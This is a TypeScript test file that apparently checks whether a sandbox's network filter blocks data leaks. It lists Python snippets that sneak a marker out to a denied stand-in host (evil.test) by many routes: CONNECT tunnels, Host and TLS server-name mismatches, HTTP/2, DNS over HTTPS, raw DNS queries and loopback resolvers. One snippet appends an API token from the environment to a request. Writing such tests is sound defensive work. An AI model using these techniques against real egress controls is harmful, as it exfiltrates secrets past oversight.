import type { AttackGroup } from '../../attack.ts';
import type { NetworkArena } from '../arena.ts';
import { asked, bytes, message, tries } from '../tries.ts';

/** A name that is looked up has told its server everything that stands in it. */
const leak = (name: string, python: (host: string, mark: string) => string) =>
  tries(name, { python: (mark) => python(`${mark}.evil.test`, mark), success: asked });
const close = 'Connection: close';

export const names: AttackGroup<NetworkArena> = {
  name: 'names',
  harm: 'leak',
  control: tries('a name that is allowed', {
    python: (mark) => `get('http://${mark}.open.test/')`,
    success: asked,
  }),
  attacks: [
    leak('a denied host over HTTP', (host) => `get('http://${host}/')`),
    leak('a denied host over HTTPS', (host) => `get('https://${host}/')`),
    leak('CONNECT, and nothing more', (host) => `tunnel('${host}:443'); time.sleep(0.5)`),
    leak(
      'CONNECT, then what is no TLS',
      (host) => `t = tunnel('${host}:22'); t.sendall(b'SSH-2.0-x\\r\\n'); read(t)`,
    ),
    leak(
      'CONNECT, then half a TLS greeting',
      (host) => `t = tunnel('${host}:443'); t.sendall(b'\\x16\\3\\1\\2\\0\\1'); read(t, 1)`,
    ),
    leak('in capitals, with a dot at the end', (host) => `get('http://${host.toUpperCase()}./')`),
    leak(
      'only in the Host header',
      (host) => `say(${bytes(message('GET', 'http://open.test/', [`Host: ${host}`, close]))})`,
    ),
    leak(
      'only as the TLS server name',
      (host) =>
        `inside('open.test:443', ${bytes(message('GET', '/', ['Host: open.test', close]))}, name='${host}')`,
    ),
    leak(
      'only in the Host header inside TLS',
      (host) => `inside('open.test:443', ${bytes(message('GET', '/', [`Host: ${host}`, close]))})`,
    ),
    leak(
      'only in the target inside TLS',
      (host) =>
        `inside('open.test:443', ${bytes(message('GET', `https://${host}/`, ['Host: open.test', close]))})`,
    ),
    leak(
      'as the user of an allowed host',
      (host) => `say(${bytes(message('GET', `http://${host}@open.test/`, ['Host: open.test', close]))})`,
    ),
    leak(
      'an allowed host as its user',
      (host) => `say(${bytes(message('GET', `http://open.test@${host}/`, [`Host: ${host}`, close]))})`,
    ),
    leak(
      'a WebSocket',
      (host) => `get('http://${host}/', 'Upgrade: websocket', 'Connection: Upgrade', close=False)`,
    ),
    leak(
      ':authority of HTTP/2',
      (host) => `s = h2('open.test:443'); s.sendall(frame(1, 5, 1, fields(*asks('${host}')))); read(s)`,
    ),
    leak(
      'a method that the host is not allowed',
      (_, mark) => `get('https://${mark}.readonly.test/', method='DELETE')`,
    ),
    leak('a host that people have not answered for', (_, mark) => `get('https://${mark}.ask.test/')`),
    leak(
      'an allowed host whose request carries a placeholder',
      (_, mark) => `get('https://${mark}.open.test/' + os.environ['API_TOKEN'])`,
    ),
    leak('an allowed host on a port that is not', (_, mark) => `get('https://${mark}.open.test:8443/')`),
    leak(
      'DNS over HTTPS',
      (_, mark) =>
        `get('https://${mark}.doh.evil.test/dns-query?dns=AAAB', 'Accept: application/dns-message')`,
    ),
    leak(
      'DNS by TCP through the door',
      (_, mark) =>
        `t = tunnel('9.9.9.9:53'); t.sendall(b'\\0\\x20\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\x0d${mark}\\0\\0\\1\\0\\1'); read(t)`,
    ),
    leak(
      "the sandbox's own resolver",
      (host) => `try: socket.getaddrinfo('${host}', 80)\nexcept OSError as error: print(error)`,
    ),
    leak(
      'resolvers on loopback',
      (host) => `for to in ('127.0.0.1', '127.0.0.11', '127.0.0.53', '::1'):
  s = socket.socket(socket.AF_INET6 if ':' in to else socket.AF_INET, socket.SOCK_DGRAM)
  try: s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b''.join(bytes([len(l)]) + l.encode() for l in '${host}'.split('.')) + b'\\0\\0\\1\\0\\1', (to, 53))
  except OSError as error: print(error)`,
    ),
  ],
};
